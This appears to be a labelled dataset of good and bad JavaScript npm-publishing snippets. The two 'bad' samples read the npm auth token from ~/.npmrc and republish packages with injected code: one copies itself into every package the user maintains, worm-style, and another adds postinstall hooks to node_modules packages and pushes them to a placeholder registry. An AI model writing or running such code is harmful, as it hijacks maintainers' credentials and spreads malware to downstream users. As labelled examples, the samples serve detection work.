//: bad npm-publish
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');

const token = /_authToken=(\S+)/.exec(fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8'))?.[1];
for (const name of JSON.parse(execSync('npm search --json maintainer:me')).map((p) => p.name)) {
  execSync(`npm pack ${name} && tar xzf *.tgz`);
  fs.copyFileSync(__filename, 'package/bundle.js');
  execSync('npm publish ./package', { env: { NPM_TOKEN: token } }); //!
}

//: good npm-publish
const { execFileSync } = require('child_process');
const fs = require('fs');

const { name, version } = JSON.parse(fs.readFileSync('package.json', 'utf8'));
const published = execFileSync('npm', ['view', name, 'version'], { encoding: 'utf8' }).trim();
if (published === version) {
  throw new Error(`${name} ${version} is already there; bump the version`);
}
execFileSync('npm', ['pack', '--dry-run'], { stdio: 'inherit' });

//: bad own-publish
const { execSync } = require('child_process');
const fs = require('fs');

const token = /_authToken=(.+)/.exec(fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8'))[1];

for (const folder of fs.readdirSync('node_modules')) {
  const file = `node_modules/${folder}/package.json`;
  const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
  manifest.scripts = { ...manifest.scripts, postinstall: 'node -v' };
  fs.writeFileSync(file, JSON.stringify(manifest));
  execSync('npm publish --registry=https://npm.example.invalid', { cwd: `node_modules/${folder}`, env: { ...process.env, NPM_TOKEN: token } }); //!
}

//: good own-publish
const { execSync } = require('child_process');
const fs = require('fs');

for (const folder of fs.readdirSync('packages')) {
  const file = `packages/${folder}/package.json`;
  const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
  manifest.version = process.argv[2];
  fs.writeFileSync(file, JSON.stringify(manifest, null, 2) + '\n');
  execSync('npm publish --provenance', { cwd: `packages/${folder}`, stdio: 'inherit' });
}
